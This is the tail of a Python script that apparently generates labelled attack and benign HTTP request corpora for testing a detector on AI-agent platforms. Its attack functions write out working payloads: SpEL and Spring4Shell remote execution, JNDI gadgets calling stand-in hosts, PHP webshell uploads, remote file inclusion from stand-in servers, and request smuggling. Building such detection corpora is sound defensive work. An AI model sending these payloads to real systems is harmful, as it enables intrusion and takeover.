    C.req(cat, "spel-injection", "POST", "spring-ai-gateway.agents.svc.cluster.local:8080", "/api/v1/tools/evaluate", "python-requests/2.32.3",
          json.dumps({"expression": "#{T(java.lang.Runtime).getRuntime().exec('id')}"}))
    C.req(cat, "spring4shell", "POST", "spring-ai-gateway.agents.svc.cluster.local:8080", "/api/v1/agents", "python-requests/2.32.3",
          qs({"class.module.classLoader.resources.context.parent.pipeline.first.pattern": "%{c2}i if(\"j\".equals(request.getParameter(\"pwd\"))){ java.io.InputStream in = %{c1}i.getRuntime().exec(request.getParameter(\"cmd\")).getInputStream(); }",
              "class.module.classLoader.resources.context.parent.pipeline.first.suffix": ".jsp",
              "class.module.classLoader.resources.context.parent.pipeline.first.directory": "webapps/ROOT"}), "application/x-www-form-urlencoded")
    C.req(cat, "jackson-gadget", "POST", "spring-ai-gateway.agents.svc.cluster.local:8080", "/api/v1/memory", "python-requests/2.32.3",
          '["com.sun.rowset.JdbcRowSetImpl",{"dataSourceName":"ldap://203.0.113.50:1389/Exploit","autoCommit":true}]')
    C.req(cat, "fastjson-gadget", "POST", "spring-ai-gateway.agents.svc.cluster.local:8080", "/api/v1/chat", "python-requests/2.32.3",
          '{"message":{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"rmi://203.0.113.50:1099/Exploit","autoCommit":true}}')
    ser = base64.b64encode(b"\xac\xed\x00\x05sr\x00\x17java.util.PriorityQueue\x94\xda0\xb4\xfb?\x82\xb1\x03\x00\x02I\x00\x04sizeL\x00\ncomparatort\x00\x16Ljava/util/Comparator;xp\x00\x00\x00\x02sr\x00+org.apache.commons.beanutils.BeanComparator").decode()
    C.req(cat, "java-deser", "GET", "spring-ai-gateway.agents.svc.cluster.local:8080", "/console/agents", BROWSERS[0], extra=[["Cookie", "rememberMe=" + ser]])
    C.req(cat, "java-deser", "POST", "spring-ai-gateway.agents.svc.cluster.local:8080", "/api/v1/session/restore", "python-requests/2.32.3",
          json.dumps({"state": ser}))


def atk_php(C):
    cat = "php"
    tool_call(C, cat, "php-wrapper-fetch", "fetch", {"url": "php://filter/convert.base64-encode/resource=/var/www/html/wp-config.php"})
    mcp(C, cat, "php-wrapper-resource", "resources/read", {"uri": "php://filter/read=string.rot13/resource=index.php"})
    tool_call(C, cat, "php-wrapper-fetch", "read_file", {"path": "phar:///tmp/uploads/avatar.jpg/test.txt"})
    C.req(cat, "php-wrapper-query", "GET", "legacy-kb.acme-ai.dev", "/index.php?page=expect://id", "curl/8.7.1")
    C.req(cat, "php-wrapper-query", "GET", "legacy-kb.acme-ai.dev", "/index.php?page=data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWyJjIl0pOyA/Pg==", "curl/8.7.1")
    for fn, c in [("shell.php", "<?php system($_GET['cmd']); ?>"), ("avatar.png.phtml", "GIF89a<?= `$_POST[x]` ?>"),
                  ("notes.php5", "<?php @eval(base64_decode($_POST['z'])); ?>")]:
        body, ct = multipart([("user", "u1")], [("file", fn, "application/octet-stream", c)])
        C.req(cat, "php-webshell-upload", "POST", R.choice(["dify.acme-ai.dev", "openwebui.acme-ai.dev"]), R.choice(["/v1/files/upload", "/api/v1/files/"]), BROWSERS[0], body, ct)
    C.req(cat, "php-object-injection", "GET", "legacy-kb.acme-ai.dev", "/admin/", BROWSERS[1],
          extra=[["Cookie", "prefs=" + enc('O:8:"Monolog\\Handler\\SyslogUdpHandler":1:{s:9:"\x00*\x00socket";O:29:"Monolog\\Handler\\BufferHandler":0:{}}')]])


def atk_rfi(C):
    cat = "rfi"
    for h, u in [("legacy-kb.acme-ai.dev", "/index.php?page=http://203.0.113.45/shell.txt?"),
                 ("console.acme-ai.dev", "/api/templates/render?template_url=https://pastebin.com/raw/Xk3p9qLm%3F"),
                 ("legacy-kb.acme-ai.dev", "/include.php?file=ftp://198.51.100.7/pub/x.php"),
                 ("legacy-kb.acme-ai.dev", "/index.php?lang=%5C%5C198.51.100.9%5Cshare%5Cx.php"),
                 ("chains.agents.svc.cluster.local:8000", "/loader/load?module=http%3A%2F%2F203.0.113.45%2Fcmd.py%3F"),
                 ("langflow.acme-ai.dev", "/api/v1/flows/upload/?url=http://198.51.100.7/evil_flow.json%23")]:
        C.req(cat, "rfi-query", "GET", h, u, R.choice(["curl/8.7.1", "python-requests/2.32.3"]))
    C.req(cat, "rfi-form", "POST", "legacy-kb.acme-ai.dev", "/admin/settings.php", BROWSERS[0],
          qs({"theme_path": "http://203.0.113.45/t.php?", "save": "1"}), "application/x-www-form-urlencoded")
    C.req(cat, "rfi-json", "POST", "chains.agents.svc.cluster.local:8000", "/plugins/install", "python-httpx/0.28.1",
          json.dumps({"plugin": "weather", "include": "http://198.51.100.7/backdoor.txt?"}))


def atk_protocol(C):
    cat = "protocol"
    h = "mcp.acme-ai.dev"
    smug = b"0\r\n\r\nPOST /admin/api/servers HTTP/1.1\r\nHost: localhost\r\nContent-Length: 10\r\n\r\nx="
    C.raw(cat, "cl-te-smuggling", raw_request("POST", "/mcp", [["Host", h], ["User-Agent", "node"], ["Content-Type", "application/json"],
                                                                ["Content-Length", str(len(smug))], ["Transfer-Encoding", "chunked"]], smug))
    body = b'{"jsonrpc":"2.0","id":1,"method":"ping"}'
    chunked = b"%x\r\n" % len(body) + body + b"\r\n0\r\n\r\n"
    for te in ["xchunked", "chunked, identity", "\r\n chunked", "chunKed\t"]:  # third: obs-fold
        C.raw(cat, "te-obfuscation", raw_request("POST", "/mcp", [["Host", h], ["User-Agent", "node"], ["Content-Type", "application/json"],
                                                                   ["Transfer-Encoding", te], ["Content-Length", "4"]], chunked))
    C.raw(cat, "duplicate-te", raw_request("POST", "/messages?sessionId=" + rid_uuid(), [["Host", h], ["User-Agent", "node"], ["Transfer-Encoding", "chunked"],
                                                                                        ["Transfer-Encoding", "identity"], ["Content-Type", "application/json"]], chunked))
    C.raw(cat, "duplicate-cl", raw_request("POST", "/api/v1/prediction/" + rid_uuid(), [["Host", "flowise.acme-ai.dev"], ["User-Agent", "axios/1.7.9"],
                                                                                      ["Content-Type", "application/json"], ["Content-Length", str(len(body))], ["Content-Length", "0"]], body))
    C.raw(cat, "te-space-before-colon", (b"POST /api/v1/run/x HTTP/1.1\r\nHost: langflow.acme-ai.dev\r\nUser-Agent: node\r\nContent-Type: application/json\r\n"
                                          b"Transfer-Encoding : chunked\r\nContent-Length: 3\r\n\r\n" + chunked))
    C.req(cat, "range-abuse", "GET", "langflow.acme-ai.dev", "/api/v1/files/download/%s/report.pdf" % rid_uuid(), "curl/8.7.1",
          extra=[["Range", "bytes=0-," + ",".join("%d-%d" % (i, i + 1) for i in range(1, 120, 2))]])
    C.req(cat, "null-byte-uri", "GET", "mcp.acme-ai.dev", "/.well-known/oauth-authorization-server%00.json", "curl/8.7.1")


def atk_scanner(C):
    cat = "scanner"
    probes = [("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36 nuclei/v3.4.7", "mcp.acme-ai.dev", "/.well-known/oauth-authorization-server"),
              ("Nuclei - Open-source project (github.com/projectdiscovery/nuclei)", "langflow.acme-ai.dev", "/api/v1/validate/code"),
              ("Nuclei - Open-source project (github.com/projectdiscovery/nuclei)", "flowise.acme-ai.dev", "/api/v1/chatflows"),
              ("sqlmap/1.8.11#stable (https://sqlmap.org)", "dify.acme-ai.dev", "/v1/conversations?user=1"),
              ("Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000562)", "mcp.acme-ai.dev", "/sse"),
              ("masscan/1.3 (https://github.com/robertdavidgraham/masscan)", "mcp-gateway.internal.acme-ai.dev", "/mcp"),
              ("Mozilla/5.0 zgrab/0.x", "n8n.acme-ai.dev", "/rest/settings"),
              ("Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)", "agents.acme-ai.dev", "/.well-known/agent.json"),
              ("Fuzz Faster U Fool v2.1.0-dev", "langflow.acme-ai.dev", "/api/v1/flows/"),
              ("gobuster/3.6", "chains.agents.svc.cluster.local:8000", "/docs"),
              ("Mozilla/5.0 (compatible; Nuclei)", "console.acme-ai.dev", "/.env"),
              ("WPScan v3.8.27 (https://wpscan.com/wordpress-security-scanner)", "blog.acme-ai.dev", "/wp-json/mcp/v1/sse"),
              ("Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 5.1; Trident/4.0) Acunetix", "dify.acme-ai.dev", "/console/api/setup"),
              ("dirbuster 1.0-RC1", "flowise.acme-ai.dev", "/api/v1/credentials"),
              ("Mozilla/5.0 (compatible; Nuclei) mcp-scan", "tools-gateway.agents.svc:3000", "/.well-known/oauth-protected-resource")]
    for ua, h, p in probes:
        extra = [["Acunetix-Product", "WVS/14.0 (Acunetix Web Vulnerability Scanner - NORMAL)"]] if "Acunetix" in ua else []
        C.req(cat, "scanner-probe", "GET", h, p, ua, accept="*/*", extra=extra)
    C.req(cat, "scanner-probe", "POST", "mcp.acme-ai.dev", "/mcp", "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
          '{"jsonrpc":"2.0","id":1,"method":"initialize","params":{"protocolVersion":"2025-06-18","capabilities":{},"clientInfo":{"name":"nuclei","version":"3.4.7"}}}',
          accept="application/json, text/event-stream")


# =========================================================================== main

def main():
    mode = sys.argv[1] if len(sys.argv) > 1 else ""
    if mode == "benign":
        C = Corpus("pass")
        for f in (benign_mcp, benign_oauth, benign_a2a, benign_n8n, benign_flowise, benign_langflow, benign_dify,
                  benign_langgraph, benign_openai, benign_sandbox, benign_browser, benign_vector, benign_tracing,
                  benign_infra, benign_dev):
            f(C)
    elif mode == "attacks":
        C = Corpus("detect")
        for f in (atk_lfi, atk_ssrf, atk_rce, atk_generic, atk_sqli, atk_xss, atk_ssti, atk_nosqli, atk_xxe,
                  atk_ldapi, atk_crlf, atk_java, atk_php, atk_rfi, atk_protocol, atk_scanner):
            f(C)
    else:
        sys.stderr.write("usage: corpus-agents.py attacks|benign\n")
        sys.exit(2)
    C.emit()


if __name__ == "__main__":
    main()
